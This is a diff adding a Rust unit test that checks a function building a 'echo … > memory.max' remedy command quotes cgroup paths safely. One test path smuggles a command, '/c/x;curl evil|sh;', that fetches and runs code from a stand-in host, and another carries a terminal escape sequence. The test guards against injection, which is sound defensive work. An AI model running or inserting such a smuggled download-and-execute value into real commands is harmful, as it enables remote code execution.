@@ -98,6 +98,20 @@ fn the_least_of_the_hierarchy_counts() {
 }
 
 #[test]
+fn a_name_of_a_cgroup_is_no_command() {
+    let at = |path: &str| Headroom {
+        path: path.into(),
+        limit_file: "memory.max".into(),
+        limit_bytes: 1000,
+        usage_bytes: 0,
+        reclaimable_bytes: 0,
+    };
+    assert_eq!(remedy(&at("/c/x;curl evil|sh;"), 1), "echo 1001 > '/c/x;curl evil|sh;/memory.max'");
+    assert_eq!(remedy(&at("/c/app\\x2d1.scope"), 1), "echo 1001 > '/c/app\\x2d1.scope/memory.max'");
+    assert_eq!(remedy(&at("/c/a\x1b[1m"), 1), "write 1001 to its memory.max");
+}
+
+#[test]
 fn v2_has_two_limits_and_a_root_without_any() {
     let root = tree(&[
         ("s/memory.max", "max\n"),
